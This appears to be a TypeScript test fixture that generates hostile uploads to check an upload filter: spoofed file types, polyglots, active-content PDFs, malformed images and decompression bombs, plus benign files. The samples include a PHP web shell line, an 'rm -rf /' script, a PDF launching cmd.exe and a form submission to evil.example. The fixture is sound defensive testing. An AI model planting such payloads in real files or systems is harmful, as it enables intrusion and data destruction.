import { crc32, deflateSync } from 'node:zlib';
import { MAX_UPLOAD_BYTES } from '../src/adapters/storage/storage.ts';

// Issue 27: a corpus of hostile uploads, built here byte by byte (no binary fixtures), and genuine
// files that must still pass. `rifiuto` is the refusal each one must meet: by type (its first bytes
// are not a PDF, JPG or PNG), by content (decision 0426: structure, polyglot, active content,
// decoding bomb), by size, or empty.

export type Rifiuto = 'tipo' | 'contenuto' | 'troppo-grande' | 'vuoto';

export interface FileDiProva {
  nome: string;
  perche: string;
  dati: () => Buffer;
}

export interface FileOstile extends FileDiProva {
  rifiuto: Rifiuto;
}

const b = (s: string) => Buffer.from(s, 'latin1');
const cat = (...parti: (Buffer | string)[]) =>
  Buffer.concat(parti.map((p) => (typeof p === 'string' ? b(p) : p)));

/** One PNG chunk: length, type, data, CRC of type and data. */
function chunk(tipo: string, dati: Buffer, crcGiusto = true): Buffer {
  const lunghezza = Buffer.alloc(4);
  lunghezza.writeUInt32BE(dati.length);
  const corpo = cat(tipo, dati);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE((crc32(corpo) + (crcGiusto ? 0 : 1)) >>> 0);
  return cat(lunghezza, corpo, crc);
}

function ihdr(larghezza: number, altezza: number): Buffer {
  const d = Buffer.alloc(13);
  d.writeUInt32BE(larghezza, 0);
  d.writeUInt32BE(altezza, 4);
  d.set([8, 6, 0, 0, 0], 8); // 8 bits, RGBA
  return chunk('IHDR', d);
}

const FIRMA_PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const IDAT = chunk('IDAT', deflateSync(Buffer.from([0, 0x20, 0x40, 0x60, 0xff])));
const IEND = chunk('IEND', Buffer.alloc(0));

/** A PNG of the given size (the pixel data stays one pixel: a viewer would inflate the rest). */
export const png = (larghezza = 1, altezza = 1, ...extra: Buffer[]) =>
  cat(FIRMA_PNG, ihdr(larghezza, altezza), ...extra, IDAT, IEND);

function segmento(marcatore: number, dati: Buffer): Buffer {
  const testa = Buffer.from([0xff, marcatore, 0, 0]);
  testa.writeUInt16BE(dati.length + 2, 2);
  return cat(testa, dati);
}

function sof(larghezza: number, altezza: number): Buffer {
  const d = Buffer.from([8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
  d.writeUInt16BE(altezza, 1);
  d.writeUInt16BE(larghezza, 3);
  return segmento(0xc0, d);
}

const SOI = Buffer.from([0xff, 0xd8]);
const APP0 = segmento(0xe0, cat('JFIF\0', Buffer.from([1, 1, 0, 0, 1, 0, 1, 0, 0])));
const SOS = segmento(0xda, Buffer.from([1, 1, 0x00, 0, 63, 0]));
const SCANSIONE = Buffer.from([0x12, 0x34, 0xff, 0x00, 0x56, 0xff, 0xd3, 0x78]);
const EOI = Buffer.from([0xff, 0xd9]);

/** A JPEG laid out as a camera writes it, with extra segments before the frame. */
export const jpg = (larghezza = 640, altezza = 480, ...extra: Buffer[]) =>
  cat(SOI, APP0, ...extra, sof(larghezza, altezza), SOS, SCANSIONE, EOI);

/** A PDF of the given objects, with a cross-reference-free trailer and its end marker. */
export const pdf = (...oggetti: (string | Buffer)[]) =>
  cat('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n', ...oggetti, 'trailer << /Root 1 0 R >>\n%%EOF\n');

const CATALOGO = '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n';
const PAGINE =
  '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R >> endobj\n';

/** An object with a Flate-coded stream of `contenuto` (or of `compresso` as given). */
function flate(
  numero: number,
  dizionario: string,
  contenuto: Buffer,
  compresso: Buffer<ArrayBufferLike> = deflateSync(contenuto),
) {
  return cat(
    `${numero} 0 obj << ${dizionario} /Filter /FlateDecode /Length ${compresso.length} >>\nstream\n`,
    compresso,
    '\nendstream\nendobj\n',
  );
}

/** 96 MB of zeros in about 100 kB: three such streams inflate past MAX_PDF_INFLATO. */
let zeri: Buffer<ArrayBufferLike> | undefined;
const zeriCompressi = () => {
  zeri ??= deflateSync(Buffer.alloc(96 * 1024 * 1024), { level: 1 });
  return zeri;
};

const HTML = '<!DOCTYPE html><html><body><script>fetch("/graphql")</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>';
const ZIP = cat('PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000', 'payload.jar');

export const FILE_OSTILI: FileOstile[] = [
  // Spoofed types: the name (and the Content-Type the client sends) say one thing, the bytes another.
  { nome: 'ricevuta.pdf', perche: 'HTML page', rifiuto: 'tipo', dati: () => b(HTML) },
  { nome: 'foto.png', perche: 'SVG with script', rifiuto: 'tipo', dati: () => b(SVG) },
  {
    nome: 'foto.jpg',
    perche: 'SVG with an XML prolog',
    rifiuto: 'tipo',
    dati: () => b(`<?xml version="1.0"?>${SVG}`),
  },
  {
    nome: 'scansione.jpg',
    perche: 'Windows executable',
    rifiuto: 'tipo',
    dati: () => b('MZ\u0090\u0000\u0003 This program'),
  },
  {
    nome: 'bonifico.pdf',
    perche: 'ELF executable',
    rifiuto: 'tipo',
    dati: () => b('\u007fELF\u0002\u0001\u0001\u0000'),
  },
  { nome: 'estratto.pdf', perche: 'ZIP archive', rifiuto: 'tipo', dati: () => ZIP },
  {
    nome: 'logo.png',
    perche: 'GIF',
    rifiuto: 'tipo',
    dati: () => b('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;'),
  },
  { nome: 'foto.jpg', perche: 'BMP', rifiuto: 'tipo', dati: () => cat('BM', Buffer.alloc(60)) },
  {
    nome: 'foto.jpg',
    perche: 'WebP',
    rifiuto: 'tipo',
    dati: () => cat('RIFF\u0024\u0000\u0000\u0000WEBPVP8 ', Buffer.alloc(24)),
  },
  {
    nome: 'scansione.pdf',
    perche: 'TIFF',
    rifiuto: 'tipo',
    dati: () => cat('II*\u0000\u0008\u0000\u0000\u0000', Buffer.alloc(32)),
  },
  { nome: 'nota.pdf', perche: 'plain text', rifiuto: 'tipo', dati: () => b('Pagamento quota 2026') },
  {
    nome: 'grafico.png',
    perche: 'JavaScript',
    rifiuto: 'tipo',
    dati: () => b('window.location="https://evil.example"'),
  },
  { nome: 'foto.jpg', perche: 'PHP', rifiuto: 'tipo', dati: () => b('<?php system($_GET["c"]); ?>') },
  {
    nome: 'pagina.pdf',
    perche: 'XHTML',
    rifiuto: 'tipo',
    dati: () => b(`<html xmlns="http://www.w3.org/1999/xhtml">${HTML}</html>`),
  },
  {
    nome: 'pagina.pdf',
    perche: 'HTML with a byte-order mark',
    rifiuto: 'tipo',
    dati: () => cat(Buffer.from([0xef, 0xbb, 0xbf]), HTML),
  },
  {
    nome: 'pagina.png',
    perche: 'HTML after blanks, upper case',
    rifiuto: 'tipo',
    dati: () => b(`\n\n   ${HTML.toUpperCase()}`),
  },
  { nome: 'lettera.pdf', perche: 'RTF', rifiuto: 'tipo', dati: () => b('{\\rtf1\\ansi {\\object\\objemb}}') },
  {
    nome: 'archivio.pdf',
    perche: 'gzip',
    rifiuto: 'tipo',
    dati: () => cat(Buffer.from([0x1f, 0x8b, 8, 0]), Buffer.alloc(20)),
  },
  {
    nome: 'icona.png',
    perche: 'ICO',
    rifiuto: 'tipo',
    dati: () => cat(Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(40)),
  },
  { nome: 'script.pdf', perche: 'shell script', rifiuto: 'tipo', dati: () => b('#!/bin/sh\nrm -rf /\n') },
  // Double extensions: the last one is what a careless viewer trusts.
  {
    nome: 'fattura.pdf.exe',
    perche: 'executable with a PDF name',
    rifiuto: 'tipo',
    dati: () => b('MZ\u0090\u0000'),
  },
  { nome: 'foto.jpg.html', perche: 'web page with a JPG name', rifiuto: 'tipo', dati: () => b(HTML) },
  { nome: 'ricevuta.pdf.svg', perche: 'SVG with a PDF name', rifiuto: 'tipo', dati: () => b(SVG) },
  {
    nome: 'scontrino.png.php',
    perche: 'PHP with a PNG name',
    rifiuto: 'tipo',
    dati: () => b('<?php echo 1; ?>'),
  },
  {
    nome: 'documento.pdf.js',
    perche: 'script with a PDF name',
    rifiuto: 'tipo',
    dati: () => b('alert(document.cookie)'),
  },
  // Polyglots: a valid start, something else inside or after.
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF that is also a web page',
    rifiuto: 'contenuto',
    dati: () => pdf(CATALOGO, `% ${HTML}\n`),
  },
  {
    nome: 'foto.png',
    perche: 'PNG with a web page after IEND',
    rifiuto: 'contenuto',
    dati: () => cat(png(), HTML),
  },
  {
    nome: 'foto.png',
    perche: 'PNG with a ZIP after IEND',
    rifiuto: 'contenuto',
    dati: () => cat(png(), ZIP),
  },
  {
    nome: 'foto.png',
    perche: 'PNG with a script in a text chunk',
    rifiuto: 'contenuto',
    dati: () => png(1, 1, chunk('tEXt', b(`Comment\u0000${HTML}`))),
  },
  {
    nome: 'foto.jpg',
    perche: 'JPEG with a script in a comment',
    rifiuto: 'contenuto',
    dati: () => jpg(640, 480, segmento(0xfe, b(HTML))),
  },
  {
    nome: 'foto.jpg',
    perche: 'JPEG with a ZIP after its end (GIFAR-like)',
    rifiuto: 'contenuto',
    dati: () => cat(jpg(), ZIP),
  },
  {
    nome: 'foto.jpg',
    perche: 'JPEG with a web page after its end',
    rifiuto: 'contenuto',
    dati: () => cat(jpg(), HTML),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF with a ZIP after %%EOF',
    rifiuto: 'contenuto',
    dati: () => cat(pdf(CATALOGO), ZIP),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF with a web page after %%EOF',
    rifiuto: 'contenuto',
    dati: () => cat(pdf(CATALOGO), HTML),
  },
  {
    nome: 'foto.png',
    perche: 'PNG with a PDF after IEND',
    rifiuto: 'contenuto',
    dati: () => cat(png(), pdf(CATALOGO)),
  },
  {
    nome: 'foto.jpg',
    perche: 'JPEG with PHP after its end',
    rifiuto: 'contenuto',
    dati: () => cat(jpg(), '<?php system($_GET["c"]); ?>'),
  },
  // PDFs that run code, open programs or carry files.
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF running JavaScript when opened',
    rifiuto: 'contenuto',
    dati: () =>
      pdf('1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n'),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF with a /JS action on a page',
    rifiuto: 'contenuto',
    dati: () =>
      pdf(CATALOGO, '3 0 obj << /Type /Page /AA << /O << /JS (this.exportDataObject()) >> >> >> endobj\n'),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF with an escaped /J#61vaScript name',
    rifiuto: 'contenuto',
    dati: () => pdf('1 0 obj << /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (x) >> >> endobj\n'),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF hiding JavaScript in a compressed object stream',
    rifiuto: 'contenuto',
    dati: () =>
      pdf(
        CATALOGO,
        flate(5, '/Type /ObjStm /N 1 /First 4', b('6 0 << /S /JavaScript /JS (app.alert(1)) >>')),
      ),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF launching a program',
    rifiuto: 'contenuto',
    dati: () => pdf('1 0 obj << /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj\n'),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF carrying an embedded file',
    rifiuto: 'contenuto',
    dati: () => pdf('1 0 obj << /Type /Catalog /Names << /EmbeddedFiles 4 0 R >> >> endobj\n'),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF with Flash (RichMedia)',
    rifiuto: 'contenuto',
    dati: () => pdf(CATALOGO, '4 0 obj << /Type /Annot /Subtype /RichMedia >> endobj\n'),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF with an XFA form',
    rifiuto: 'contenuto',
    dati: () => pdf('1 0 obj << /Type /Catalog /AcroForm << /XFA 4 0 R >> >> endobj\n'),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF that submits a form elsewhere',
    rifiuto: 'contenuto',
    dati: () => pdf(CATALOGO, '4 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj\n'),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF with a javascript: link',
    rifiuto: 'contenuto',
    dati: () => pdf(CATALOGO, '4 0 obj << /S /URI /URI (javascript:alert(1)) >> endobj\n'),
  },
  // Broken structure: a viewer's parser meets what it was not written for.
  {
    nome: 'foto.png',
    perche: 'PNG with a wrong CRC',
    rifiuto: 'contenuto',
    dati: () => cat(FIRMA_PNG, ihdr(1, 1), chunk('IDAT', b('x'), false), IEND),
  },
  {
    nome: 'foto.png',
    perche: 'PNG cut short (no IEND)',
    rifiuto: 'contenuto',
    dati: () => cat(FIRMA_PNG, ihdr(1, 1), IDAT),
  },
  {
    nome: 'foto.png',
    perche: 'PNG without IHDR first',
    rifiuto: 'contenuto',
    dati: () => cat(FIRMA_PNG, IDAT, ihdr(1, 1), IEND),
  },
  {
    nome: 'foto.png',
    perche: 'PNG with a chunk longer than the file',
    rifiuto: 'contenuto',
    dati: () => cat(FIRMA_PNG, ihdr(1, 1), Buffer.from([0x7f, 0, 0, 0]), 'IDAT', IEND),
  },
  {
    nome: 'foto.jpg',
    perche: 'JPEG without a frame',
    rifiuto: 'contenuto',
    dati: () => cat(SOI, APP0, SOS, SCANSIONE, EOI),
  },
  {
    nome: 'foto.jpg',
    perche: 'JPEG cut short (no end marker)',
    rifiuto: 'contenuto',
    dati: () => cat(SOI, APP0, sof(640, 480), SOS, SCANSIONE),
  },
  {
    nome: 'foto.jpg',
    perche: 'JPEG with a segment longer than the file',
    rifiuto: 'contenuto',
    dati: () => cat(SOI, Buffer.from([0xff, 0xe1, 0xff, 0xf0]), 'Exif'),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF without its end marker',
    rifiuto: 'contenuto',
    dati: () => cat('%PDF-1.7\n', CATALOGO),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF with a stream never closed',
    rifiuto: 'contenuto',
    dati: () => pdf(CATALOGO, '4 0 obj << /Length 9 >>\nstream\nnever ends\n'),
  },
  // Decoding bombs: small on disk, gigabytes in a viewer.
  {
    nome: 'foto.png',
    perche: 'PNG of 100,000 × 100,000 pixels',
    rifiuto: 'contenuto',
    dati: () => png(100_000, 100_000),
  },
  {
    nome: 'foto.png',
    perche: 'PNG of 12,000 × 12,000 pixels (144 MP)',
    rifiuto: 'contenuto',
    dati: () => png(12_000, 12_000),
  },
  { nome: 'foto.png', perche: 'PNG 30,000 pixels wide', rifiuto: 'contenuto', dati: () => png(30_000, 1) },
  { nome: 'foto.png', perche: 'PNG of 0 × 0 pixels', rifiuto: 'contenuto', dati: () => png(0, 0) },
  {
    nome: 'foto.jpg',
    perche: 'JPEG of 65,000 × 65,000 pixels',
    rifiuto: 'contenuto',
    dati: () => jpg(65_000, 65_000),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'PDF stream inflating past 256 MB',
    rifiuto: 'contenuto',
    dati: () => pdf(CATALOGO, ...[4, 5, 6].map((n) => flate(n, '', Buffer.alloc(0), zeriCompressi()))),
  },
  // Size.
  {
    nome: 'grande.pdf',
    perche: 'one byte over 10 MB',
    rifiuto: 'troppo-grande',
    dati: () => cat('%PDF-1.7\n', Buffer.alloc(MAX_UPLOAD_BYTES - 14, 0x20), '%%EOF\n'),
  },
  { nome: 'vuoto.pdf', perche: 'empty', rifiuto: 'vuoto', dati: () => Buffer.alloc(0) },
];

/** Files people really upload, which the checks must let through. */
export const FILE_SANI: FileDiProva[] = [
  { nome: 'foto.png', perche: 'a small PNG', dati: () => png(2, 2) },
  {
    nome: 'schermata.png',
    perche: 'a PNG with a text chunk and padding after IEND',
    dati: () => cat(png(1920, 1080, chunk('tEXt', b('Software\u0000GIMP 2.10'))), Buffer.alloc(16)),
  },
  { nome: 'foto.jpg', perche: 'a 48 MP phone photo’s layout', dati: () => jpg(8000, 6000) },
  {
    nome: 'foto.jpg',
    perche: 'a JPEG with an EXIF thumbnail and a camera trailer',
    dati: () =>
      cat(
        jpg(4000, 3000, segmento(0xe1, cat('Exif\u0000\u0000', jpg(160, 120)))),
        b('SEFHSEFT'),
        Buffer.from([0x00, 0x01, 0xfe, 0x3c]),
      ),
  },
  { nome: 'ricevuta.pdf', perche: 'a minimal PDF', dati: () => pdf(CATALOGO, PAGINE) },
  {
    nome: 'ricevuta.pdf',
    perche: 'a PDF with a compressed page and nested parameters',
    dati: () =>
      pdf(
        CATALOGO,
        PAGINE,
        flate(4, '/DecodeParms << /Predictor 1 >>', b('BT /F1 12 Tf 72 712 Td (Bonifico eseguito) Tj ET')),
      ),
  },
  {
    nome: 'ricevuta.pdf',
    perche: 'a PDF updated twice (two end markers)',
    dati: () =>
      cat(pdf(CATALOGO, PAGINE), '4 0 obj << /Type /Annot >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\r\n'),
  },
];
